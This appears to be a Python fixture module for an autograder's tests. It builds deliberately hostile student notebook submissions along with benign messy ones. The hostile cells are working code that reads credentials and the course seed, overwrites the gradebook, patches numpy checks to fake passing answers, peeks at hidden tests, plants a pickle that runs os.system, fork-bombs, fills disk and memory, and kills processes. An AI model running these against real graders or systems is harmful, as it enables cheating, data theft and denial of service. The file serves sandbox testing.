"""Hostile and malformed-but-honest submissions of problem set 1, for ``test_coursework.py``.

Each entry builds one student's ``ps1`` folder from ada's (correct) notebook. ``HOSTILE`` entries
try to get marks they did not earn, to read or change what they must not, or to leave something
behind; ``earns`` is the points their real work deserves (the test asserts no more). ``HONEST``
entries are the noise of real students; each must keep full marks (9).

Markers: every hostile program that starts processes or writes files tags them with
``MARKER`` so that the test can look for survivors.
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path

MARKER = f"cosim-attack-{uuid.uuid4().hex[:8]}"
STUB = "raise NotImplementedError()"

# --------------------------------------------------------------------------- notebook surgery


def load(path: Path) -> dict:
    return json.loads(Path(path).read_text(encoding="utf-8"))


def grade_id(cell) -> str:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")


def code_cell(source: str, **nbgrader) -> dict:
    meta = {"nbgrader": nbgrader} if nbgrader else {}
    return {"cell_type": "code", "execution_count": None, "id": uuid.uuid4().hex[:8], "metadata": meta,
            "outputs": [], "source": source}


def replace(nb: dict, gid: str, source: str) -> dict:
    for cell in nb["cells"]:
        if grade_id(cell) == gid:
            cell["source"] = source
    return nb


def insert_after(nb: dict, gid: str, cell: dict) -> dict:
    index = next(i for i, c in enumerate(nb["cells"]) if grade_id(c) == gid)
    nb["cells"].insert(index + 1, cell)
    return nb


def stubs(nb: dict) -> dict:
    """Every answer cell back to a stub (no real work)."""
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            src = "".join(cell["source"])
            head = src.split('"""', 2)
            cell["source"] = '"""'.join(head[:2]) + '"""\n    ' + STUB if len(head) == 3 else src
    return nb


# --------------------------------------------------------------------------- hostile programs
# Each is a code cell added after the setup (or replacing an answer). ``{root}`` is the course
# folder on the grading machine, ``{seed}`` the secret course seed, ``{marker}`` MARKER.

READ_SECRETS = '''
import glob, itertools, os
_found = []
for _pattern in ["{root}/source/*/*", "{root}/gradebook.db", "{root}/submitted/*/*/*", "../*/*", "/work/**/hidden_tests.py",
                 "/root/**/*.py", "/home/*/*", os.path.expanduser("~/.config/cosim-course/seed")]:
    for _path in itertools.islice(glob.iglob(_pattern, recursive=True), 50):
        if not os.path.isfile(_path):
            continue  # a device such as /dev/ptmx blocks a read until the time limit, and holds no secret
        try:
            _found.append(open(_path, errors="replace").read(20000))  # not all of /dev/zero
        except OSError:
            pass
print("FOUND", len(_found), "".join(_found)[:200000])
'''

TAMPER = '''
import glob, os, shutil, sqlite3
for _path in glob.glob("{root}/**", recursive=True):
    try:
        if _path.endswith(".db"):
            _db = sqlite3.connect(_path); _db.execute("update grade set auto_score = 100"); _db.commit()
        elif os.path.isfile(_path):
            open(_path, "w").write("owned")
    except Exception:
        pass
shutil.rmtree("{root}/submitted", ignore_errors=True)
'''

AST_TRANSFORMER = '''
try:
    import ast
    class _Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            return ast.Module(body=[ast.Try(body=node.body, handlers=[ast.ExceptHandler(body=[ast.Pass()])],
                                            orelse=[], finalbody=[])], type_ignores=[])
    get_ipython().ast_transformers.append(_Swallow())
except Exception:
    pass
'''

EXCEPTHOOK = '''
import sys
sys.excepthook = lambda *a: print("Task 1.1: the visible checks pass.")
try:
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
except Exception:
    pass
import builtins
builtins.NotImplementedError = type("NotImplementedError", (Exception,), {{}})
'''

FAKE_OUTPUT = '''
import io, json, os, numpy as np
print("Task 1.1: the visible checks pass.")
print(json.dumps({{"output_type": "execute_result", "data": {{"text/plain": "9 points"}}}}))
_fake = io.BytesIO()
_manifest = json.dumps({{"cells": [], "cases": [{{"label": "x", "status": "ok", "error": "", "result": {{"kind": "float"}},
                                                "after": []}}]}}).encode()
np.savez(_fake, **{{"c0.r0": np.asarray(1.0), "manifest": np.frombuffer(_manifest, dtype=np.uint8)}})
for _fd in range(3, 20):
    try:
        os.write(_fd, _fake.getvalue())
    except OSError:
        pass
'''

PATCH_ALLCLOSE = '''
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
def cosine_rows(E):
    return np.zeros((len(E), len(E)))
def user_item_cosine(X, A, B):
    return np.zeros((len(X), len(B)))
def loss_objective_1(X, A, B, lam):
    return 0.0
def loss_objective_2(X, A, B, lam):
    return 0.0
'''

PEEK = '''
import gc, inspect, linecache, sys
def _peek():
    texts = [str(v) for v in linecache.cache.values()]
    for frame in inspect.stack():
        texts.append(repr(frame.frame.f_locals)[:5000])
    for obj in gc.get_objects()[:200000]:
        if isinstance(obj, dict) and "expect" in obj:
            texts.append(repr(obj)[:5000])
    secret = "".join(texts)
    print("PEEK", secret[:100000])
    raise type("Leak_" + "".join(c for c in secret if c.isalnum())[:60], (Exception,), {{}})()
def cosine_rows(E):
    _peek()
'''

DAEMON = '''
import os, subprocess, sys, time
subprocess.Popen(["sleep", "600", "{marker}"], start_new_session=True)
subprocess.Popen([sys.executable, "-c", "import time, os\\nos.setsid()\\nwhile True: time.sleep(1)  # {marker}"],
                 start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "601", "{marker}"])
    os._exit(0)
'''

FLOOD = '''
import sys
_line = "x" * 1023 + "\\n"
for _ in range(50 * 1024):
    sys.stdout.write(_line)
'''

DETECT = '''
import os, numpy as np
_graded = any(k.startswith("NBGRADER") for k in os.environ) or os.getuid() != os.geteuid() or os.getuid() > 60000
def cosine_rows(E):
    # hard-codes the answer to the self-check's example; wrong anywhere else
    return np.array([[1.0, 1.0, 0.0, 0.0], [1.0, 1.0, 0.0, 0.0], [0.0, 0.0, 1.0, 0.0], [0.0, 0.0, 0.0, 0.0]])
'''

REFERENCE_ALIAS = '''
import importlib
_module = importlib.import_module("cosim_helpers." + "similarity")
_f = getattr(_module, "cosine" + "_similarity")
def cosine_rows(E, _g=_f):
    return _g(E)
'''

REFERENCE_RELOAD = '''
import importlib, inspect, cosim_helpers.similarity as _m
_m = importlib.reload(_m)
_src = open(_m.__file__).read()
_ns = {{}}
exec(_src.replace("from ._validation", "from cosim_helpers._validation"), _ns)
def cosine_rows(E):
    return _ns["cos" + "ine_similarity"](E)
'''

NETWORK = '''
import socket
for _host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
    try:
        _s = socket.create_connection((_host, {port}), timeout=2)
        _s.sendall(b"{marker}")
    except OSError:
        pass
'''

FORK_BOMB = '''
import os, time
_children = 0
for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        _children += 1
    except OSError:
        break
print("forked", _children)
'''

MEMORY_BOMB = '''
import numpy as np
def cosine_rows(E):
    _big = np.ones((40_000, 40_000))  # 12.8 GB
    return _big[:len(E), :len(E)]
'''

DISK_FILL = '''
import os
_chunk = b"x" * (1 << 20)
for _name in ("/tmp/fill", "fill", "/dev/shm/fill"):
    try:
        with open(_name, "wb") as _fh:
            for _ in range(2048):
                _fh.write(_chunk)
    except (OSError, Exception):
        pass
'''

BUSY = '''
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
def cosine_rows(E):
    while True:
        try:
            pass
        except BaseException:
            pass
'''

KILL_ALL = '''
import os, signal
for _sig in (signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(-1, _sig)
    except OSError:
        pass
'''

PICKLE_BOMB = '''
import io, numpy as np, os
class _Evil:
    def __reduce__(self):
        return (os.system, ("touch {root}/PWNED-{marker}",))
_real_savez = np.savez
def _savez(file, **arrays):
    arrays["c0.r0"] = np.array([_Evil()], dtype=object)
    return _real_savez(file, **arrays)
np.savez = _savez
'''

METADATA = '''
import numpy as np
np.allclose = lambda *a, **k: True
'''

HUGE = '''
import numpy as np
def cosine_rows(E):
    return np.zeros((9000, 9000))  # 650 MB of answers
'''

READ_SEED = '''
import glob, os
_texts = [repr(dict(os.environ))]
for _path in glob.glob("/proc/*/environ") + [os.path.expanduser("~/.config/cosim-course/seed"), "/root/.config/cosim-course/seed"]:
    try:
        _texts.append(open(_path, errors="replace").read())
    except OSError:
        pass
print("SEED?", "".join(_texts))
'''


def _hostile(nb, cell_source, *, replace_answers=False, answers_to_stub=True):
    """Add the hostile cell after the setup, or (``replace_answers``) make it task 1.1's answer cell."""
    nb = stubs(nb) if answers_to_stub else nb
    cell = code_cell(cell_source)
    if replace_answers:
        return replace(nb, "ps1-t1-cosine", cell_source)
    return insert_after(nb, "ps1-setup", cell)


def build_hostile(ada: dict, root: Path, seed: str, port: int) -> dict[str, tuple[dict, float, str]]:
    """{student: (notebook, points earned by real work, what it tries)}."""
    fmt = {"root": str(root), "seed": seed, "marker": MARKER, "port": port}

    def nb():
        return json.loads(json.dumps(ada))

    def src(template):
        return template.format(**fmt)

    out = {
        "h01-read-secrets": (_hostile(nb(), src(READ_SECRETS)), 0, "read source/, the gradebook, other students"),
        "h02-tamper": (_hostile(nb(), src(TAMPER)), 0, "rewrite the gradebook and other students' files"),
        "h03-ast-transformer": (_hostile(nb(), src(AST_TRANSFORMER)), 0, "IPython AST transformer swallowing errors"),
        "h04-excepthook": (_hostile(nb(), src(EXCEPTHOOK)), 0, "custom exception handler, fake NotImplementedError"),
        "h05-fake-output": (_hostile(nb(), src(FAKE_OUTPUT)), 0, "print passing checks, forge answer archives"),
        "h06-patch-allclose": (_hostile(nb(), src(PATCH_ALLCLOSE)), 0, "np.allclose/isclose always True, zero answers"),
        "h07-peek": (_hostile(nb(), src(PEEK), replace_answers=True), 0, "read hidden tests via linecache/frames/gc, leak via exception type"),
        "h08-daemon": (_hostile(nb(), src(DAEMON), answers_to_stub=False), 9, "leave processes running (setsid, double fork)"),
        "h09-flood": (_hostile(nb(), src(FLOOD), answers_to_stub=False), 9, "print 50 MB"),
        "h10-detect": (_hostile(nb(), src(DETECT), replace_answers=True, answers_to_stub=False), 6, "detect grading, hard-code the self-check"),
        "h11-reference-alias": (_hostile(nb(), src(REFERENCE_ALIAS), replace_answers=True, answers_to_stub=False), 6,
                                "call the reference through an alias built from strings"),
        "h12-reference-reload": (_hostile(nb(), src(REFERENCE_RELOAD), replace_answers=True, answers_to_stub=False), 6,
                                 "reload the reference module, exec its source"),
        "h13-network": (_hostile(nb(), src(NETWORK)), 0, "send data over the network"),
        "h14-fork-bomb": (_hostile(nb(), src(FORK_BOMB), answers_to_stub=False), 9, "fork 300 processes"),
        "h15-memory": (_hostile(nb(), src(MEMORY_BOMB), replace_answers=True, answers_to_stub=False), 6, "allocate 12.8 GB"),
        "h16-disk": (_hostile(nb(), src(DISK_FILL), answers_to_stub=False), 9, "write 2 GB of files"),
        "h17-busy": (_hostile(nb(), src(BUSY), replace_answers=True, answers_to_stub=False), 6, "endless loop ignoring the alarm"),
        "h18-kill-all": (_hostile(nb(), src(KILL_ALL)), 0, "kill every process it can see"),
        "h19-pickle": (_hostile(nb(), src(PICKLE_BOMB), answers_to_stub=False), 0, "pickled object in the answers"),
        "h20-huge-answer": (_hostile(nb(), src(HUGE), replace_answers=True, answers_to_stub=False), 6, "return a 650 MB answer"),
        "h21-read-seed": (_hostile(nb(), src(READ_SEED)), 0, "read the course seed (environment, files, /proc)"),
    }
    tampered = stubs(nb())
    for cell in tampered["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution"):
            meta.update({"grade": True, "points": 100, "grade_id": "ps1-t1-check"})
        if grade_id(cell) in ("ps1-t2-check", "ps1-setup"):
            cell["source"] = METADATA
    out["h22-metadata"] = (tampered, 0, "answer cells marked as 100-point tests, self-checks and setup edited")
    return out


# --------------------------------------------------------------------------- honest noise


def build_honest(ada: dict) -> dict[str, tuple[bytes | dict, dict[str, bytes], str]]:
    """{student: (notebook (dict, or raw bytes), extra files, what it does)}; each must score 9."""
    def nb():
        return json.loads(json.dumps(ada))

    out = {}
    warn = nb()
    for cell in warn["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            src = "".join(cell["source"])
            cell["source"] = src.replace('"""\n', '"""\n    import sys, warnings\n    warnings.warn("slow")\n'
                                         '    print("debug", file=sys.stderr)\n', 1)
    out["n01-warnings"] = (warn, {}, "warnings and prints on stderr")
    ids = nb()
    for cell in ids["cells"]:
        cell["id"] = uuid.uuid4().hex
    out["n02-cell-ids"] = (ids, {}, "every cell id changed")
    dup = nb()
    index = next(i for i, c in enumerate(dup["cells"]) if grade_id(c) == "ps1-t2-user-item")
    dup["cells"].insert(index + 1, json.loads(json.dumps(dup["cells"][index])))
    out["n03-duplicate"] = (dup, {}, "an answer cell copied (same metadata)")
    stubcopy = nb()
    index = next(i for i, c in enumerate(stubcopy["cells"]) if grade_id(c) == "ps1-t3-loss1")
    copy = json.loads(json.dumps(stubcopy["cells"][index]))
    copy["source"] = ('def loss_objective_1(X, A, B, lam):\n    """Objective 1: ||X - X A B^T||_F^2 + lam '
                      '||A B^T||_F^2."""\n    # YOUR CODE HERE\n    raise NotImplementedError()')
    stubcopy["cells"].insert(index + 1, copy)
    out["n04-stub-copy"] = (stubcopy, {}, "an untouched copy of a stub after the answer")
    moved = nb()
    checks = [c for c in moved["cells"] if grade_id(c).endswith("-check")]
    moved["cells"] = [c for c in moved["cells"] if c not in checks] + checks[::-1]
    out["n05-reordered-checks"] = (moved, {}, "self-check cells moved to the end, reversed")
    deleted = nb()
    deleted["cells"] = [c for c in deleted["cells"] if not grade_id(c).endswith("-check")]
    out["n06-deleted-checks"] = (deleted, {}, "self-check cells deleted")
    out["n07-extra-files"] = (nb(), {"notes.txt": b"my notes", "scratch.ipynb": json.dumps(
        {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(), "data.csv": b"1,2\n"},
        "extra files next to the notebook")
    bare = nb()
    for cell in bare["cells"]:
        cell["metadata"] = {}
    out["n08-no-metadata"] = (bare, {}, "all cell metadata lost (copied into a fresh notebook)")
    text = json.dumps(nb(), indent=1).replace("\n", "\r\n")
    out["n09-bom-crlf"] = (b"\xef\xbb\xbf" + text.encode(), {}, "byte-order mark and Windows line ends")
    magic = nb()
    replace(magic, "ps1-t1-cosine", "%matplotlib inline\n" + "".join(
        next(c for c in magic["cells"] if grade_id(c) == "ps1-t1-cosine")["source"]).replace(
        "    E_unit = E * inv_norms[:, None]", "    E_unit = _scale_rows(E, inv_norms)"))
    insert_after(magic, "ps1-setup", code_cell("def _scale_rows(E, factors):\n    return E * factors[:, None]\n"))
    insert_after(magic, "ps1-t1-check", code_cell("print(undefined_name)  # scratch\n!ls\n"))
    out["n10-magic-helper-scratch"] = (magic, {}, "a magic line, a helper cell used by an answer, a failing scratch cell")
    old = nb()
    old["nbformat_minor"] = 4
    for cell in old["cells"]:
        cell.pop("id", None)
        if cell["cell_type"] == "code":
            cell["execution_count"] = 3
            cell["outputs"] = [{"output_type": "display_data", "metadata": {},
                                "data": {"image/png": "iVBORw0KGgo" + "A" * 200000, "text/plain": "<Figure>"}}]
    out["n11-old-format-outputs"] = (old, {}, "nbformat 4.4 (no cell ids), big image outputs stored")
    return out


# --------------------------------------------------------------------------- round two (issue 20)
# Used by ``test_coursework_round2.py``, each its own student of one graded class. A source that
# defines ``cosine_rows`` replaces task 1.1's answer cell, any other is added after the setup.

FORGED_LABELS = '''
import sys
_main = sys.modules["__main__"]
_call_cases = _main.call_cases
def _forged(namespace, cases, arrays, seconds, cells=()):
    leak = []
    for key in sorted(arrays)[:20]:
        values = ",".join(f"{v:.2f}" for v in arrays[key].ravel()[:8])
        leak.append({"label": f"cell LEAK {key}{list(arrays[key].shape)}:{values}", "status": "error",
                     "error": "ValueError"})
    return _call_cases(namespace, cases, arrays, seconds, list(cells) + leak)
_main.call_cases = _forged
'''

ERROR_NAMES = '''
import builtins, sys
_main = sys.modules["__main__"]
_call_cases = _main.call_cases
_names = sorted(n for n, v in vars(builtins).items() if isinstance(v, type) and issubclass(v, BaseException))
def _forged(namespace, cases, arrays, seconds, cells=()):
    digits = [int(abs(v) * 100) for key in sorted(arrays) for v in arrays[key].ravel()] or [0]
    cells = [dict(c, status="error", error=_names[digits[i % len(digits)] % len(_names)]) if c["label"].startswith("cell ")
             else c for i, c in enumerate(cells)]
    return _call_cases(namespace, cases, arrays, seconds, cells)
_main.call_cases = _forged
'''

FORGED_SETUP = '''
import sys
_main = sys.modules["__main__"]
_call_cases = _main.call_cases
def _forged(namespace, cases, arrays, seconds, cells=()):
    cells = [dict(c, status="error", error="ImportError") if i == 0 else c for i, c in enumerate(cells)]
    return _call_cases(namespace, cases, arrays, seconds, cells)
_main.call_cases = _forged
'''

PLANTED_REFERENCE = '''import importlib, sys
sys.path[:] = [p for p in sys.path if not p.startswith("/opt/course")]
for _name in [m for m in sys.modules if m.startswith("cosim" + "_helpers")]:
    del sys.modules[_name]
_reference = None
for _path, _module in (("{site}", "{name}"), ("{zip}", "cosim" + "_helpers"), ("{lib}", "{name}")):
    sys.path.insert(0, _path)
    try:
        _reference = getattr(importlib.import_module(_module + ".similarity"), "cosine" + "_similarity")
        break
    except ImportError:
        pass
def cosine_rows(E):
    return _reference(E)
'''

#: {name: (source, points its real work earns, extra empty cells, what it tries)}
ROUND2 = {
    "r01-forged-labels": (FORGED_LABELS, 9, 0, "append cell records whose labels carry the hidden inputs"),
    "r02-error-names": (ERROR_NAMES, 9, 40, "encode the hidden inputs in forged exception names of 40 cells"),
}
